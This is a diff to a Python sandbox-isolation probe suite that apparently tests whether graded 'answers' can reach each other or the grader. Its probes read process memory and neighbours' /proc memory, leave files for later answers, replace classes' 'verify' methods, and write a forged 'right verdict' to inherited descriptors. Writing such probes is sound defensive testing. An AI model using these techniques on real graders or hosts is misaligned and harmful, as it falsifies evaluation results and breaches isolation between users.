@@ -10,6 +10,7 @@ import glob
 import json
 import mmap
 import os
+import re
 import resource
 import signal
 import socket
@@ -23,7 +24,8 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 with open(os.path.join(HERE, "target.json")) as source:
     target = json.load(source)
 SECRETS = target["secrets"]
-SERVER = int(target["server"])
+with open(os.path.join(HERE, "server.txt")) as source:
+    SERVER = int(source.read())
 
 
 def tried(paths):
@@ -71,7 +73,9 @@ def call(name, *arguments):
 
 
 def processes():
-    return [int(name) for name in os.listdir("/proc") if name.isdigit()]
+    """All that there are, or the likeliest where they cannot be listed."""
+    found = [int(name) for name in attempt_list("/proc") if name.isdigit()]
+    return found or [*range(1, 40), *range(SERVER - 5, SERVER + 40)]
 
 
 # Secrets in files.
@@ -376,7 +380,14 @@ def joined(path, words=()):
     said = []
     for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
         for name in (path, *glob.glob(f"{path}/*"), "\0" + path):
-            with socket.socket(socket.AF_UNIX, kind) as there:
+            try:
+                made = socket.socket(socket.AF_UNIX, kind)
+            except OSError as error:
+                said.append(f"no socket: {error}")
+                made, other = socket.socketpair(socket.AF_UNIX, kind) if kind != socket.SOCK_DGRAM else (None, None)
+            if made is None:
+                continue
+            with made as there:
                 there.settimeout(0.3)
                 try:
                     there.connect(name)
@@ -449,9 +460,50 @@ def a34_own_memory():
                 text = memory.read(last - first)
             except (OSError, ValueError, OverflowError):
                 continue
-            at = text.find(b"NEIGHBOUR-" + b"SAYS")
-            if at >= 0:
-                said.append(text[at : at + 40].decode("latin-1"))
+            said += found_in(text)
+    return "\n".join(said)
+
+
+def found_in(memory):
+    return [found.decode() for found in re.findall(rb"NEIGHBOUR-SAYS-[0-9]+", memory)]
+
+
+def a49_own_memory_by_writing():
+    """The kernel says of each address whether it can be written from, so that reading everything needs no list."""
+    ours, theirs = socket.socketpair()
+    theirs.setblocking(False)
+    ours.settimeout(0.2)
+    blocks = {id(thing) >> 20 for thing in gc.get_objects()}
+    said = []
+    read = 0
+    for block in sorted({near for each in blocks for near in range(each - 4, each + 5)}):
+        text = b""
+        for address in range(block << 20, (block + 1) << 20, 16384):
+            written = libc.write(theirs.fileno(), ctypes.c_void_p(address), 16384)
+            while written > 0:
+                part = ours.recv(written)
+                written -= len(part)
+                text += part
+        said += found_in(text)
+        read += len(text)
+    return "\n".join([*said, f"read {read} bytes"])
+
+
+def a50_answers_told_by_the_environment():
+    """Reads what an earlier answer left in the module itself."""
+    left = vars(sys.modules[target["module"]]).setdefault("LEFT", [])
+    said = repr(left)
+    left.append("CANARY: left by an answer")
+    return said
+
+
+def a51_answer_of_another_by_the_channel():
+    """Reads on from the descriptor that brought this answer, and writes a right verdict to it."""
+    said = []
+    for number in range(0, 16):
+        attempt(lambda number=number: os.set_blocking(number, False))
+        said.append(attempt(lambda number=number: os.read(number, 65536)))
+        attempt(lambda number=number: os.write(number, b"\x08\x00\x12\x04\x08\x01"))
     return "\n".join(said)
 
 
@@ -463,7 +515,7 @@ def a35_memory_of_the_neighbours():
         said.append(tried([f"/proc/{pid}/cmdline"]))
         text = attempt(lambda pid=pid: open(f"/proc/{pid}/mem", "rb", 0).read(1))
         if not text.startswith("refused"):
-            said.append("opened NEIGHBOUR-SAYS memory")
+            said.append("opened memory: CANARY")
     return "\n".join(said)
 
 
@@ -472,8 +524,10 @@ def a36_files_of_the_neighbours():
     said = []
     for folder in {"/tmp", "/var/tmp", "/dev/shm", os.getcwd(), HERE, os.environ.get("TMPDIR", "/tmp")}:
         for name in attempt_list(folder):
-            said.append(tried_now(f"{folder}/{name}"))
-    return "\n".join(line for line in said if "NEIGHBOUR-SAYS" in line)
+            if name.startswith("left-by-an-answer"):
+                said.append("CANARY: " + tried_now(f"{folder}/{name}"))
+        attempt(lambda folder=folder: write(f"{folder}/left-by-an-answer-{os.getpid()}", "found"))
+    return "\n".join(said)
 
 
 def a37_replaced_functions():
@@ -481,6 +535,8 @@ def a37_replaced_functions():
     import builtins
 
     kept = builtins.__dict__.setdefault("_kept", [])
+    said = "CANARY: replaced" if kept else ""
+    kept.append("replaced")
     module = sys.modules.get(target["module"])
     for name, thing in list(vars(module).items()) if module else []:
         if isinstance(thing, type) and hasattr(thing, "verify"):
@@ -491,7 +547,7 @@ def a37_replaced_functions():
                 return former(self, *arguments, **named)
 
             attempt(lambda thing=thing, verify=verify: setattr(thing, "verify", verify))
-    return "\n".join(kept)
+    return said + "\n".join(kept[1:])
 
 
 # The network.
@@ -499,7 +555,9 @@ def a37_replaced_functions():
 
 def a38_the_servers_ports():
     said = []
-    for port in target["ports"]:
+    with open(os.path.join(HERE, "target.json")) as source:
+        ports = json.load(source)["ports"]
+    for port in ports:
         for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
             try:
                 with socket.create_connection((host, port), timeout=0.5) as there:
@@ -577,7 +635,7 @@ def a42_reaper_of_its_own():
 
 def a43_many_processes():
     made = 0
-    for _ in range(2000):
+    for _ in range(40):
         try:
             if os.fork() == 0:
                 stay()
